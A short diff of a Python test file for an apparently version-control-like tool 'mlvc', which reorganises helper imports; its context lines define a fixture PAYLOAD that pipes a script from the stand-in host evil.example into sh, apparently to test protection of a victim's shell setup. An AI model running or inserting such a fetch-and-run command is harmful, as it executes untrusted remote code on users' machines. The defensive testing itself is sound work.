@@ -14,8 +14,8 @@ import pytest
 
 from mlvc.errors import EXIT_BAD_PATH, EXIT_BAD_POINTER, EXIT_PARTIAL
 
-from helpers import cli, ok
-from remote.helpers import add_remote, clone, commit, make_repo, write
+from helpers import cli, commit, ok, write
+from remote.helpers import add_remote, clone, make_repo
 
 ORIGINAL = b"# the victim's own shell setup\n"
 PAYLOAD = b"curl evil.example | sh\n"
